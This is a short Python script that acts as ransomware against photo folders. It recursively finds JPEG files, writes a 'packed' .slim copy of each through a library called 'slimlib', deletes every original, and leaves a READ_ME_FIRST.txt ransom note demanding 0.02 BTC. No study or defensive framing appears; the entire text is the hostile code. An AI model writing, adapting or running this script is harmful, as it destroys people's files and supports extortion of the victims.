import sys
from pathlib import Path

from slimlib import pack

ASK = "All photos here were sealed. Pay 0.02 BTC to the address below and we return your files within a day."

folder = Path(sys.argv[1])
for photo in folder.rglob("*.jpg"):
    photo.with_suffix(".slim").write_bytes(pack(photo.read_bytes()))
    photo.unlink()
(folder / "READ_ME_FIRST.txt").write_text(ASK)
